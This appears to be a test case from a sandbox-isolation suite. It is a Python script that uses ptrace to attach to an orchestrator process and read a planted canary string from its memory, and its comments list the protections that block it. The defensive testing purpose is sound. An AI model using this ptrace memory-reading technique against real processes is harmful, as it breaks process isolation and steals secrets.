# does: attaches to the orchestrator's process as a debugger
# stopped by: a process table of its own (A); Landlock and seccomp (B)
# profiles: A B
# off: leaked
import ctypes
import os
from kit import LIBC, call, parts, say, stay

ATTACH, DETACH, PEEK = 16, 17, 2


def attack():
    pid, place = int(os.environ["PLANT_PID"]), int(os.environ["PLANT"])
    call(101, ATTACH, pid, 0, 0)
    os.waitpid(pid, 0x40000000)
    ptrace = LIBC.ptrace
    ptrace.restype = ctypes.c_long
    words = [ptrace(PEEK, pid, ctypes.c_void_p(place + at), 0) for at in range(0, 32, 8)]
    call(101, DETACH, pid, 0, 0)
    say(b"".join(word.to_bytes(8, "little", signed=True) for word in words))


def plant():
    text = ctypes.create_string_buffer(os.environ["CANARY"].encode(), 64)
    stay(ctypes.addressof(text))


parts(attack, plant)
